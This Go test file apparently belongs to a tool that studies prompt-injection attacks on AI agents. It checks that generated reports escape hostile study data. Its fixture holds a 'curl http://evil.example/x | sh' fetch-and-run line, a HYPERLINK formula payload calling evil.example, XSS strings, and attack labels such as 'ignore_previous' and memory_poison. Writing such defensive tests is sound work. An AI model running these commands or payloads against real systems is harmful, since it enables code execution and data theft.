package report

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/killchain/killchain/internal/report/runview"
	"github.com/killchain/killchain/internal/results"
	"github.com/killchain/killchain/internal/rooted"
	"github.com/killchain/killchain/internal/sanitize/hostile"
)

// injected is the line a hostile study name tries to add to report.md.
const injected = "curl http://evil.example/x | sh"

// hostileStudy is the smoke fixture with the hostile corpus in every text
// a study folder's reader controls: the study name (with a newline and a
// command line after it), model names, variants, errors, transcript
// entries, an adaptive cell whose best payload is a formula, and suite runs
// named by the corpus.
func hostileStudy(t *testing.T) string {
	t.Helper()
	dir := copyFixture(t, "smoke")
	corpus := hostile.Corpus()
	data, err := os.ReadFile(filepath.Join(dir, results.RunsFile))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	sc := bufio.NewScanner(bytes.NewReader(data))
	sc.Buffer(nil, 1<<20)
	for i := 0; sc.Scan(); i++ {
		var r map[string]any
		if err := json.Unmarshal(sc.Bytes(), &r); err != nil {
			t.Fatal(err)
		}
		h := corpus[i%len(corpus)].Text
		r["study"] = "smoke\n" + injected
		r["model_a"] = h
		if i%3 == 0 {
			r["variant"] = h
		}
		if i%7 == 0 {
			r["error"] = h
		}
		line, _ := json.Marshal(r)
		out.Write(append(line, '\n'))
	}
	// An adaptive cell whose best payload starts a formula.
	for _, r := range []results.Run{
		adaptiveRun("g", "stage", 0, "ignore_previous", "", false, "exposed"),
		adaptiveRun("g", "stage", 1, "r1.1", "ignore_previous", true, "executed"),
	} {
		r.RunID, r.Study = "adaptive-"+r.Adaptive.Payload, "smoke"
		line, _ := json.Marshal(r)
		out.Write(append(line, '\n'))
	}
	// Suite runs whose suite, user task, injection, kind and vector are
	// hostile: the suite tables and figure show every one.
	for i, h := range corpus {
		yes := true
		r := results.Run{RunID: fmt.Sprintf("suite-%d", i), Study: "smoke", Task: h.Text, ModelA: h.Text, Condition: "hack",
			Defense: "none", Attacked: true, Family: "injection", Mode: "pipeline", Surface: "state:" + h.Text, Stage: "relayed",
			Exposed: &yes, Persisted: &yes, Relayed: &yes, AttackGoal: i%2 == 0,
			Stateful: &results.Stateful{Suite: h.Text, Injection: h.Text, InjectionKind: h.Text, Helpful: true, RelayDepth: &i}}
		line, _ := json.Marshal(r)
		out.Write(append(line, '\n'))
	}
	if err := results.AppendAttacker(dir, results.AttackerRound{Loop: "g/memory_poison@direct/m/hack/none", Grid: "g",
		Attacker: "g", Feedback: "stage", Round: 1, Asked: 1, Payloads: []results.AttackerPayload{
			{ID: "r1.1", Text: `=HYPERLINK("http://evil.example/?"&A1,"open")`, Parent: "ignore_previous"}}}); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, results.RunsFile), out.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	ts, _ := filepath.Glob(filepath.Join(dir, results.TranscriptsDir, "*.json"))
	for _, p := range ts {
		data, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		var tr map[string]any
		if err := json.Unmarshal(data, &tr); err != nil {
			t.Fatal(err)
		}
		for i, e := range tr["entries"].([]any) {
			e.(map[string]any)["text"] = corpus[i%len(corpus)].Text
		}
		data, _ = json.Marshal(tr)
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// TestHostileStudyReport: a study folder holding the hostile corpus gives
// a report.md whose lines are its own (no injected line, no control
// character), CSV files with no cell that a spreadsheet reads as a formula
// (numbers aside), and HTML pages where every hostile text is escaped.
func TestHostileStudyReport(t *testing.T) {
	dir := hostileStudy(t)
	if err := Write(dir, Options{MaxRunViews: 1000}); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, "report")
	t.Run("report.md", func(t *testing.T) {
		md, err := os.ReadFile(filepath.Join(out, MarkdownFile))
		if err != nil {
			t.Fatal(err)
		}
		for n, l := range strings.Split(string(md), "\n") {
			if strings.HasPrefix(strings.TrimSpace(l), injected) || strings.HasPrefix(l, "# Study passed") {
				t.Errorf("report.md line %d is the study name's: %q", n+1, l)
			}
			if i := strings.IndexFunc(l, func(r rune) bool { return r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f }); i >= 0 {
				t.Errorf("report.md line %d holds a control character: %q", n+1, l)
			}
		}
		if !strings.Contains(string(md), `smoke\x0a`+injected) {
			t.Errorf("report.md does not show the study name escaped")
		}
		if !strings.Contains(string(md), "## Suites: hop depth in pipelines") {
			t.Errorf("report.md has no suite section for the hostile suite runs")
		}
	})
	t.Run("csv", func(t *testing.T) {
		files, _ := filepath.Glob(filepath.Join(out, "*.csv"))
		if len(files) < 10 {
			t.Fatalf("%d CSV files", len(files))
		}
		best := false
		for _, f := range files {
			data, err := os.ReadFile(f)
			if err != nil {
				t.Fatal(err)
			}
			recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", filepath.Base(f), err)
			}
			for _, rec := range recs {
				for _, c := range rec {
					if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) && !looksNumeric(c) {
						t.Errorf("%s: the cell %q starts a formula", filepath.Base(f), c)
					}
					best = best || strings.HasPrefix(c, "'=HYPERLINK(")
				}
			}
		}
		if !best {
			t.Errorf("adaptive_cells.csv's best_text does not carry the neutralised payload")
		}
	})
	t.Run("html", func(t *testing.T) {
		pages, _ := filepath.Glob(filepath.Join(out, runview.Dir, "*.html"))
		pages = append(pages, filepath.Join(out, HTMLFile))
		if len(pages) < 3 {
			t.Fatalf("%d pages", len(pages))
		}
		for _, p := range pages {
			data, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			for _, h := range []string{"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "</textarea></pre><b>owned</b>"} {
				if bytes.Contains(data, []byte(h)) {
					t.Errorf("%s holds %q unescaped", filepath.Base(p), h)
				}
			}
			z := html.NewTokenizer(bytes.NewReader(data))
			for tt := z.Next(); tt != html.ErrorToken; tt = z.Next() {
				tok := z.Token()
				if tok.Type != html.StartTagToken && tok.Type != html.SelfClosingTagToken {
					continue
				}
				if tok.Data == "script" || tok.Data == "img" || tok.Data == "textarea" {
					t.Errorf("%s: hostile text became a <%s> element", filepath.Base(p), tok.Data)
				}
				for _, a := range tok.Attr {
					if strings.HasPrefix(a.Key, "on") || a.Key == "src" || strings.HasPrefix(a.Val, "javascript:") {
						t.Errorf("%s: <%s %s=%q>", filepath.Base(p), tok.Data, a.Key, a.Val)
					}
				}
			}
		}
	})
}

// looksNumeric reports whether s holds only what a number can.
func looksNumeric(s string) bool {
	for i, c := range s {
		switch {
		case c >= '0' && c <= '9', c == '.', c == 'e', c == 'E':
		case (c == '+' || c == '-') && (i == 0 || s[i-1] == 'e' || s[i-1] == 'E'):
		default:
			return false
		}
	}
	return strings.ContainsAny(s, "0123456789")
}

// TestReportRefusesLinks: a report folder whose files or folders link
// elsewhere is refused with a clear error; nothing outside changes (the
// report once overwrote a linked report.md and deleted the pages of a
// linked runs/).
func TestReportRefusesLinks(t *testing.T) {
	tests := []struct {
		name, link string
		file       bool // linked to the outside file, else to the outside folder
	}{
		{"report.md linked outside", "report/" + MarkdownFile, true},
		{"report.html linked outside", "report/" + HTMLFile, true},
		{"a CSV linked outside", "report/" + StagesFile, true},
		{"runs linked to a folder outside", "report/" + runview.Dir, false},
		{"figures linked to a folder outside", "report/" + FiguresDir, false},
		{"report linked to a folder outside", "report", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			dir := copyFixture(t, "smoke")
			outside := t.TempDir()
			keep := filepath.Join(outside, "keep.html")
			if err := os.WriteFile(keep, []byte("outside"), 0o644); err != nil {
				t.Fatal(err)
			}
			target := outside
			if tc.file {
				target = keep
			}
			if err := os.MkdirAll(filepath.Join(dir, "report"), 0o755); err != nil {
				t.Fatal(err)
			}
			if tc.link == "report" {
				os.Remove(filepath.Join(dir, "report"))
			}
			if err := os.Symlink(target, filepath.Join(dir, tc.link)); err != nil {
				t.Fatal(err)
			}
			err := Write(dir, Options{})
			if !errors.Is(err, rooted.ErrLink) {
				t.Errorf("err %v, want a refused link", err)
			}
			ents, _ := os.ReadDir(outside)
			if b, _ := os.ReadFile(keep); len(ents) != 1 || string(b) != "outside" {
				t.Errorf("the outside folder changed: %d entries, keep.html holds %q", len(ents), b)
			}
		})
	}
}
